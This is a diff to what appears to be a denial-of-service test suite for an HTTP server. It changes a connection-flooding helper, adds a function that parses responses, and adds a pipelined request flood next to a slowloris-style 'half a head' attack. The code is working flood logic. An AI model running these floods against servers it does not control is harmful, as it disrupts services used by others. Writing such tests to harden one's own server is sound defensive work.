@@ -33,7 +33,7 @@ function open({ port }: Victim): Socket {
   return socket.on('error', () => undefined).resume();
 }
 
-/** Keeps so many connections busy: each sends, waits for something to come back, and sends again. */
+/** Keeps so many connections busy: each sends, waits for the whole response, and sends again. */
 async function ask(victim: Victim, connections: number, next: () => string): Promise<void> {
   await Promise.all(
     Array.from({ length: connections }, async () => {
@@ -41,11 +41,50 @@ async function ask(victim: Victim, connections: number, next: () => string): Pro
         const socket = open(victim);
         const closed = new Promise((resolve) => socket.once('close', resolve));
         while (!socket.destroyed) {
+          const complete = responseOn(socket);
           socket.write(next());
-          await Promise.race([new Promise((resolve) => socket.once('data', resolve)), closed]);
+          await Promise.race([complete, closed]);
         }
         socket.destroy();
         // A client that is cut off at once would only measure how fast connections are made.
+        await pause(10);
+      }
+    }),
+  );
+}
+
+/** Waits for the next response; one without a length is taken to be complete with its head. */
+function responseOn(socket: Socket): Promise<void> {
+  return new Promise((resolve) => {
+    let head = '';
+    let left: number | undefined;
+    const read = (chunk: Buffer): void => {
+      if (left === undefined) {
+        head += chunk.toString('latin1');
+        const end = head.indexOf('\r\n\r\n');
+        if (end === -1) return;
+        left = Number(/\r\ncontent-length: (\d+)/i.exec(head)?.[1] ?? 0) - (head.length - end - 4);
+      } else left -= chunk.length;
+      if (left > 0) return;
+      socket.off('data', read);
+      resolve();
+    };
+    socket.on('data', read);
+  });
+}
+
+/** Sends many requests in one piece, again and again, on each of so many connections. */
+async function pipeline(victim: Victim, connections: number, request: string): Promise<void> {
+  const piece = request.repeat(Math.floor((64 * 1024) / request.length));
+  await Promise.all(
+    Array.from({ length: connections }, async () => {
+      for (;;) {
+        const socket = open(victim);
+        const closed = new Promise((resolve) => socket.once('close', resolve));
+        while (!socket.destroyed) {
+          socket.write(piece);
+          await Promise.race([new Promise((resolve) => socket.once('data', resolve)), closed]);
+        }
         await pause(10);
       }
     }),
@@ -120,6 +159,11 @@ export const ATTACKS: readonly Attack[] = [
     name: '1,500 connections with half a head',
     before: 'no limit of connections',
     run: (victim) => hold(victim, 1500, 'GET / HTTP/1.1\r\nHost: '),
+  },
+  {
+    name: 'a thousand requests in one piece, 16 connections',
+    before: 'all begun at once',
+    run: (victim) => pipeline(victim, 16, get('/api/v2/status', victim.host)),
   },
   {
     name: 'texts that are slow to read, 8 clients',
